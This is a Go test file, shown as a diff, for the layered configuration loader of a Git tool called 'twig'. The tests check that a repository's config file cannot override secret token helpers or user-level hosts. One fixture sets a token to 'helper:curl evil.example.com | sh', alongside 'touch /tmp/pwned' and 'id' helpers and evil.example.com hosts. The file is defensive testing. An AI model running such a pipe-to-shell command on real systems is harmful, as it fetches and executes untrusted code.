@@ -0,0 +1,300 @@
+package config
+
+import (
+    gogit "github.com/go-git/go-git/v5"
+    "os"
+    "path/filepath"
+    "strings"
+    "testing"
+    "twig/log"
+)
+
+func init() {
+    log.CreateNoOpTestRecorders()
+}
+
+func newTestConfig(t *testing.T, global string, overrides ...string) *Config {
+    cfg := New()
+    cfg.homeDir = t.TempDir()
+    cfg.overrides = overrides
+
+    path := cfg.globalPath()
+    if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+        t.Fatal(err)
+    }
+
+    if err := os.WriteFile(path, []byte(global), 0o644); err != nil {
+        t.Fatal(err)
+    }
+
+    if err := cfg.load(); err != nil {
+        t.Fatal(err)
+    }
+
+    return cfg
+}
+
+func TestLoadDefaultLayer(t *testing.T) {
+    cfg := newTestConfig(t, "")
+
+    want := "origin"
+    subject := cfg.GetString(BranchOrigin)
+
+    if subject != want {
+        t.Errorf(`GetString(BranchOrigin) = %q, want match for %q`, subject, want)
+    }
+
+    if source := cfg.Source(BranchOrigin).Name; source != LayerDefault {
+        t.Errorf(`Source(BranchOrigin) = %q, want match for %q`, source, LayerDefault)
+    }
+}
+
+func TestLoadGlobalOverridesDefault(t *testing.T) {
+    cfg := newTestConfig(t, "[branch]\ndefault = \"main\"\n")
+
+    want := "main"
+    subject := cfg.GetString(BranchDefault)
+
+    if subject != want {
+        t.Errorf(`GetString(BranchDefault) = %q, want match for %q`, subject, want)
+    }
+
+    if source := cfg.Source(BranchDefault).Name; source != LayerGlobal {
+        t.Errorf(`Source(BranchDefault) = %q, want match for %q`, source, LayerGlobal)
+    }
+
+    // siblings of an overridden key keep their defaults
+    if origin := cfg.GetString(BranchOrigin); origin != "origin" {
+        t.Errorf(`GetString(BranchOrigin) = %q, want match for %q`, origin, "origin")
+    }
+}
+
+func TestLoadFlagOverridesGlobal(t *testing.T) {
+    cfg := newTestConfig(t, "[branch]\ndefault = \"main\"\n", "branch.default=trunk", "mapping.fix=1, 2")
+
+    want := "trunk"
+    subject := cfg.GetString(BranchDefault)
+
+    if subject != want {
+        t.Errorf(`GetString(BranchDefault) = %q, want match for %q`, subject, want)
+    }
+
+    wantArr := "1,2"
+    subjectArr := strings.Join(cfg.GetStringArray(MappingFix), ",")
+
+    if subjectArr != wantArr {
+        t.Errorf(`GetStringArray(MappingFix) = %q, want match for %q`, subjectArr, wantArr)
+    }
+}
+
+func TestLoadInvalidOverride(t *testing.T) {
+    cfg := New()
+    cfg.homeDir = t.TempDir()
+    cfg.overrides = []string{"branch.unknown=1"}
+
+    if err := cfg.load(); err == nil {
+        t.Errorf(`load() = nil, want error`)
+    }
+}
+
+func TestWriteKeepsOtherLayersOut(t *testing.T) {
+    cfg := newTestConfig(t, "[branch]\ndefault = \"main\"\n", "branch.origin=upstream")
+
+    if err := cfg.SetString(ProjectHost, "example.atlassian.net"); err != nil {
+        t.Fatal(err)
+    }
+
+    data, err := os.ReadFile(cfg.globalPath())
+    if err != nil {
+        t.Fatal(err)
+    }
+
+    subject := string(data)
+    if !strings.Contains(subject, "example.atlassian.net") || !strings.Contains(subject, "main") {
+        t.Errorf(`global config = %q, want host and default branch`, subject)
+    }
+
+    if strings.Contains(subject, "upstream") || strings.Contains(subject, "mapping") {
+        t.Errorf(`global config = %q, want no values of other layers`, subject)
+    }
+}
+
+func TestWriteKeepsOverride(t *testing.T) {
+    cfg := newTestConfig(t, "", "branch.origin=upstream")
+
+    if err := cfg.SetString(BranchOrigin, "fork"); err != nil {
+        t.Fatal(err)
+    }
+
+    if subject := cfg.GetString(BranchOrigin); subject != "upstream" {
+        t.Errorf(`GetString(BranchOrigin) = %q, want match for "upstream" of the flag`, subject)
+    }
+
+    if data, _ := os.ReadFile(cfg.globalPath()); !strings.Contains(string(data), "fork") {
+        t.Errorf(`global config = %q, want "fork" written`, string(data))
+    }
+}
+
+func TestLoadEnvOverridesGlobal(t *testing.T) {
+    t.Setenv("TWIG_BRANCH_DEFAULT", "trunk")
+    t.Setenv("TWIG_MAPPING_FIX", "10,11")
+
+    cfg := newTestConfig(t, "[branch]\ndefault = \"main\"\n")
+
+    want := "trunk"
+    subject := cfg.GetString(BranchDefault)
+
+    if subject != want {
+        t.Errorf(`GetString(BranchDefault) = %q, want match for %q`, subject, want)
+    }
+
+    if source := cfg.Source(BranchDefault).Name; source != LayerEnv {
+        t.Errorf(`Source(BranchDefault) = %q, want match for %q`, source, LayerEnv)
+    }
+
+    wantArr := "10,11"
+    subjectArr := strings.Join(cfg.GetStringMap(Mapping)["fix"], ",")
+
+    if subjectArr != wantArr {
+        t.Errorf(`GetStringMap(Mapping)["fix"] = %q, want match for %q`, subjectArr, wantArr)
+    }
+}
+
+func TestLoadFlagOverridesEnv(t *testing.T) {
+    t.Setenv("TWIG_BRANCH_DEFAULT", "trunk")
+
+    cfg := newTestConfig(t, "", "branch.default=main")
+
+    want := "main"
+    subject := cfg.GetString(BranchDefault)
+
+    if subject != want {
+        t.Errorf(`GetString(BranchDefault) = %q, want match for %q`, subject, want)
+    }
+}
+
+func TestEnvName(t *testing.T) {
+    want := "TWIG_PROJECT_TOKEN"
+    subject := EnvName(ProjectToken)
+
+    if subject != want {
+        t.Errorf(`EnvName(ProjectToken) = %q, want match for %q`, subject, want)
+    }
+}
+
+func TestLoadRepoIgnoresSecrets(t *testing.T) {
+    cfg := newTestConfig(t, "[project]\ntoken = \"keyring:twig\"\n\n[profiles.acme]\ntoken = \"file:~/acme\"\n")
+
+    repo := `version = 2
+
+[project]
+token = "helper:curl evil.example.com | sh"
+
+[pr]
+token = "helper:touch /tmp/pwned"
+
+[profiles.acme]
+token = "helper:id"
+
+[branch]
+default = "main"
+`
+
+    if err := cfg.merge(Layer{Name: LayerRepo, Path: ".twig.toml"}, strings.NewReader(repo)); err != nil {
+        t.Fatal(err)
+    }
+
+    tests := map[string]string{
+        "project.token":       "keyring:twig",
+        "pr.token":            "",
+        "profiles.acme.token": "file:~/acme",
+        "branch.default":      "main",
+    }
+
+    for key, want := range tests {
+        if subject := cfg.manager.GetString(key); subject != want {
+            t.Errorf(`GetString(%q) = %q, want match for %q`, key, subject, want)
+        }
+    }
+
+    if source := cfg.Source(ProjectToken).Name; source != LayerGlobal {
+        t.Errorf(`Source(ProjectToken) = %q, want match for %q`, source, LayerGlobal)
+    }
+}
+
+func TestLoadRepoIgnoresUserSections(t *testing.T) {
+    cfg := newTestConfig(t, "[project]\nhost = \"acme.atlassian.net\"\n")
+
+    repo := `version = 2
+
+[project]
+host = "jira.evil.example.com"
+
+[pr]
+api = "https://evil.example.com"
+
+[profiles.evil]
+host = "jira.evil.example.com"
+paths = ["/"]
+
+[branch]
+default = "main"
+
+[commit]
+template = "{key} {message}"
+`
+
+    if err := cfg.merge(Layer{Name: LayerRepo, Path: ".twig.toml"}, strings.NewReader(repo)); err != nil {
+        t.Fatal(err)
+    }
+
+    tests := map[Token]string{
+        ProjectHost:    "acme.atlassian.net",
+        PrApi:          "",
+        BranchDefault:  "main",
+        CommitTemplate: "{key} {message}",
+    }
+
+    for token, want := range tests {
+        if subject := cfg.GetString(token); subject != want {
+            t.Errorf(`GetString(%q) = %q, want match for %q`, FromToken(token), subject, want)
+        }
+    }
+
+    if profiles := cfg.Profiles(); len(profiles) != 0 {
+        t.Errorf(`Profiles() = %q, want no profiles of the repository`, profiles)
+    }
+}
+
+func TestLoadRepoWithoutGitBinary(t *testing.T) {
+    dir := t.TempDir()
+    if _, err := gogit.PlainInit(dir, false); err != nil {
+        t.Fatal(err)
+    }
+
+    if err := os.WriteFile(filepath.Join(dir, ".twig.toml"), []byte("[branch]\ndefault = \"trunk\"\n"), 0o644); err != nil {
+        t.Fatal(err)
+    }
+
+    t.Chdir(dir)
+    t.Setenv("PATH", "")
+
+    cfg := newTestConfig(t, "[git]\nbackend = \"go-git\"\n")
+
+    if subject := cfg.GetString(BranchDefault); subject != "trunk" {
+        t.Errorf(`GetString(BranchDefault) = %q, want match for "trunk" of the repo config`, subject)
+    }
+}
+
+func TestWriteRepoRejectsUserSections(t *testing.T) {
+    cfg := newTestConfig(t, "")
+    cfg.target = Layer{Name: LayerRepo, Path: filepath.Join(t.TempDir(), ".twig.toml")}
+
+    if err := cfg.SetString(ProjectHost, "acme.atlassian.net"); err == nil {
+        t.Error(`SetString(ProjectHost) = nil, want error for the repository config`)
+    }
+
+    if err := cfg.SetString(BranchDefault, "main"); err != nil {
+        t.Errorf(`SetString(BranchDefault) = %v, want no error`, err)
+    }
+}